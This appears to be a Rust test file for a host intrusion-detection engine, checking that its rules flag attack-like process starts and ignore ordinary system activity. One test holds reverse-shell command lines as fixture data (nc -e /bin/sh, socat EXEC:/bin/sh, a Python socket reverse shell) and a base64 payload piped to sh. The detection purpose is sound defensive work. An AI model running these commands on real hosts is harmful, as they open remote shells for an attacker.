//! The rules that are shipped: each finds what it is for, and leaves the ordinary life of a host alone.

use crate::fixture::{event, identified, process, runtime};
use daemoneye_lib::alerting::golden::{Case, EVENTS};
use daemoneye_lib::detection::rules::load_dir;
use daemoneye_lib::detection::standing::DetectionEngine;
use daemoneye_lib::models::event::Event;
use daemoneye_lib::models::jsonl::parse_events;
use daemoneye_lib::proto::common::{EventType, ProcessEvent, ProcessRecord};
use serde_json::Value;
use std::collections::BTreeSet;
use std::path::{Path, PathBuf};
use std::sync::OnceLock;

fn directory() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules")
}

fn engine() -> &'static DetectionEngine {
    static ENGINE: OnceLock<DetectionEngine> = OnceLock::new();
    ENGINE.get_or_init(|| {
        let outcome = runtime().block_on(load_dir(&directory())).unwrap();
        assert_eq!(outcome.problems, []);
        DetectionEngine::new(outcome)
    })
}

/// The ids of the rules that find this process when it starts.
fn fired(record: ProcessRecord) -> Vec<String> {
    fired_at(EventType::Seen, record)
}

fn fired_at(kind: EventType, record: ProcessRecord) -> Vec<String> {
    let events = identified([event(kind, 1, record)]);
    engine().execute_rules(&events, &[]).found.into_iter().map(|(rule, _)| rule.id.clone()).collect()
}

fn running(name: &str, path: &str, command_line: &str) -> ProcessRecord {
    let mut record = process(7, name);
    record.executable_path = (!path.is_empty()).then(|| path.to_owned());
    record.command_line = (!command_line.is_empty()).then(|| command_line.to_owned());
    record.file_exists = Some(true);
    record.image_mismatch = Some(false);
    record
}

fn child_of(parent: &str, mut record: ProcessRecord) -> ProcessRecord {
    record.parent_name = Some(parent.to_owned());
    record
}

#[test]
fn every_rule_has_a_golden_case_that_holds_with_all_rules_together() {
    // Loading them takes a runtime of its own.
    let rules = engine().rules();
    runtime().block_on(async {
        assert!(rules.len() >= 20, "{}", rules.len());
        let mut wrong = Vec::new();
        for rule in rules.iter() {
            let (id, file) = (&rule.rule.id, &rule.rule.file);
            let case = Case::beside(id, file).unwrap().unwrap_or_else(|| panic!("{id} has no case"));
            let verdict = case.try_rules(&rules).await.unwrap();
            wrong.extend(verdict.wrong.iter().map(|wrong| format!("{id}: {wrong}")));
            assert!(verdict.alerts > 0 && verdict.events > verdict.alerts, "{id}: {verdict:?}");
            let events = std::fs::read_to_string(file.with_file_name(EVENTS)).unwrap();
            assert!(events.contains("near miss"), "{id} has no near miss");
        }
        assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    });
}

#[test]
fn the_end_of_a_process_is_no_start() {
    let rules = engine().rules();
    for rule in rules.iter() {
        let events = std::fs::read_to_string(rule.rule.file.with_file_name(EVENTS)).unwrap();
        let ends = parse_events(&events).unwrap().into_iter().filter_map(|event| match event {
            Event::Process(event) => Some(ProcessEvent { event_type: EventType::Exit.into(), ..event }),
            _ => None,
        });
        let found = engine().execute_rules(&identified(ends), &[]).found;
        assert!(found.is_empty(), "{}: {found:?}", rule.rule.id);
    }
}

#[test]
fn more_forms_of_what_rules_are_for() {
    for (rule, record) in [
        ("linux-hidden-executable-in-temp", running("b", "/dev/shm/.d/b", "b")),
        ("linux-hidden-executable-in-temp", running(".b", "/var/tmp/a/.b", "b")),
        ("linux-reverse-shell", running("nc", "/usr/bin/nc.traditional", "nc -e /bin/sh 10.0.0.1 4444")),
        ("linux-reverse-shell", running("socat", "/usr/bin/socat", "socat TCP:10.0.0.1:4444 EXEC:/bin/sh")),
        (
            "linux-reverse-shell",
            running(
                "python3",
                "/usr/bin/python3.11",
                "python3 -c import socket,subprocess,os;s=socket.socket();s.connect(('10.0.0.1',1));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])",
            ),
        ),
        ("linux-payload-piped-to-shell", running("sh", "/usr/bin/dash", "sh -c echo aWQ= | base64 -d | sh")),
        ("linux-shell-from-web-server", child_of("php-fpm8.2", running("bash", "/usr/bin/bash", "bash -c id"))),
    ] {
        assert_eq!(fired(record.clone()), [rule], "{record:?}");
    }
}

#[test]
fn a_build_below_tmp_is_ordinary_life() {
    for path in [
        "/tmp/src/target/debug/build/x-0123456789abcdef/build-script-build",
        "/tmp/src/target/debug/deps/it-0123456789abcdef",
        "/tmp/rustcAbC123/build-script-main",
        "/tmp/tmp.Xy12/configure-test/a.out",
        "/tmp/go-build123/b001/exe/main",
        "/var/tmp/portage/x/temp/x",
        "/tmp/src/.cargo-ok/../x",
        "/home/me/.cargo/bin/cargo",
        "/home/me/.local/share/x/.hidden",
    ] {
        let name = path.rsplit('/').next().unwrap();
        assert_eq!(fired(running(&name[..name.len().min(15)], path, path)), [""; 0], "{path}");
    }
}

#[test]
fn kernel_threads_and_services_are_ordinary_life() {
    for record in [
        running("kworker/u8:0-ev", "", ""),
        running("rcu_preempt", "", ""),
        running("systemd", "/usr/lib/systemd/systemd", "/sbin/init"),
        running("kwin_wayland", "/usr/bin/kwin_wayland", "/usr/bin/kwin_wayland"),
        running("sshd", "/usr/sbin/sshd", "sshd: me [priv]"),
        running("3", "/memfd:runc (deleted)", "runc init"),
        running("bash", "/usr/bin/bash", "-bash"),
        running("sh", "/usr/bin/dash", "sh -c ps aux | grep ssh | sort"),
        running("python3", "/usr/bin/python3.11", "python3 -c import socket; print(socket.gethostname())"),
        running("nc", "/usr/bin/nc", "nc -z localhost 22"),
        running("cargo", "/root/.cargo/bin/cargo", "cargo build --release"),
        running("dpkg", "/usr/bin/dpkg", "/usr/bin/dpkg --status-fd 12 --configure --pending"),
        child_of("dpkg", running("systemctl", "/usr/bin/systemctl", "systemctl daemon-reload")),
        running("logrotate", "/usr/sbin/logrotate", "/usr/sbin/logrotate /etc/logrotate.conf"),
        running("curl", "/usr/bin/curl", "curl -fsSL -o /tmp/x.tgz https://x.example/x.tgz"),
        running("docker", "/usr/bin/docker", "docker run --rm -v /srv/data:/data -p 80:80 nginx"),
        running("chmod", "/usr/bin/chmod", "chmod -R 0755 /srv/www"),
        running("rm", "/usr/bin/rm", "rm -rf /tmp/src/target /var/tmp/x"),
        running("ssh", "/usr/bin/ssh", "ssh -o BatchMode=yes -L 5432:db:5432 host"),
        running("find", "/usr/bin/find", "find /srv -name *.log -mtime +7 -delete"),
    ] {
        assert_eq!(fired(record.clone()), [""; 0], "{record:?}");
    }
}

/// The event of a line of the corpus.
fn record(line: &Value) -> ProcessRecord {
    let text = |field: &str| line["event"][field].as_str().map(str::to_owned);
    let base = |path: &Option<String>| {
        let name = path.as_deref().and_then(|path| path.rsplit('/').next());
        name.map(|name| name.chars().take(15).collect::<String>())
    };
    let (path, parent) = (text("Image"), text("ParentImage"));
    ProcessRecord {
        name: base(&path),
        executable_path: path,
        invoked_path: text("ImageInvoked"),
        command_line: text("CommandLine"),
        cwd: text("CurrentDirectory"),
        user: text("User"),
        parent_name: base(&parent),
        parent_executable_path: parent,
        parent_command_line: text("ParentCommandLine"),
        file_exists: Some(true),
        image_mismatch: Some(false),
        ..process(7, "")
    }
}

#[test]
fn nothing_fires_on_ordinary_work() {
    let corpus = testkit::corpus();
    if !testkit::require("corpus", corpus.is_some(), "there is no directory of public events") {
        return;
    }
    let lines = std::fs::read_to_string(corpus.unwrap().join("benign_exec.jsonl")).unwrap();
    let records: Vec<_> = lines.lines().map(|line| record(&serde_json::from_str(line).unwrap())).collect();
    assert!(records.len() > 50 && records.iter().all(|record| record.command_line.is_some()));
    for record in records {
        assert_eq!(fired_at(EventType::Exec, record.clone()), [""; 0], "{record:?}");
    }
}

#[test]
fn some_of_the_commands_of_public_attack_tests_are_found() {
    let corpus = testkit::corpus();
    if !testkit::require("corpus", corpus.is_some(), "there is no directory of public events") {
        return;
    }
    let lines = std::fs::read_to_string(corpus.unwrap().join("atomics.jsonl")).unwrap();
    let (mut all, mut found) = (0, Vec::new());
    for line in lines.lines() {
        let attack: Value = serde_json::from_str(line).unwrap();
        let events = attack["exec_events"].as_array().unwrap();
        let shell = events.first().map(|event| event["ParentCommandLine"].clone());
        let own = events.iter().cloned().chain(shell.map(|line| {
            serde_json::json!({"Image": "/usr/bin/bash", "CommandLine": line, "ParentImage": "/usr/bin/python3.11"})
        }));
        let rules: BTreeSet<String> =
            own.flat_map(|event| fired_at(EventType::Exec, record(&serde_json::json!({ "event": event })))).collect();
        all += 1;
        if !rules.is_empty() {
            found.push(format!("{} by {rules:?}", attack["name"]));
        }
    }
    // Most of these tests are ordinary commands (ps, id, tar), which no rule should report.
    assert!(found.len() >= 20, "{} of {all}: {found:#?}", found.len());
}
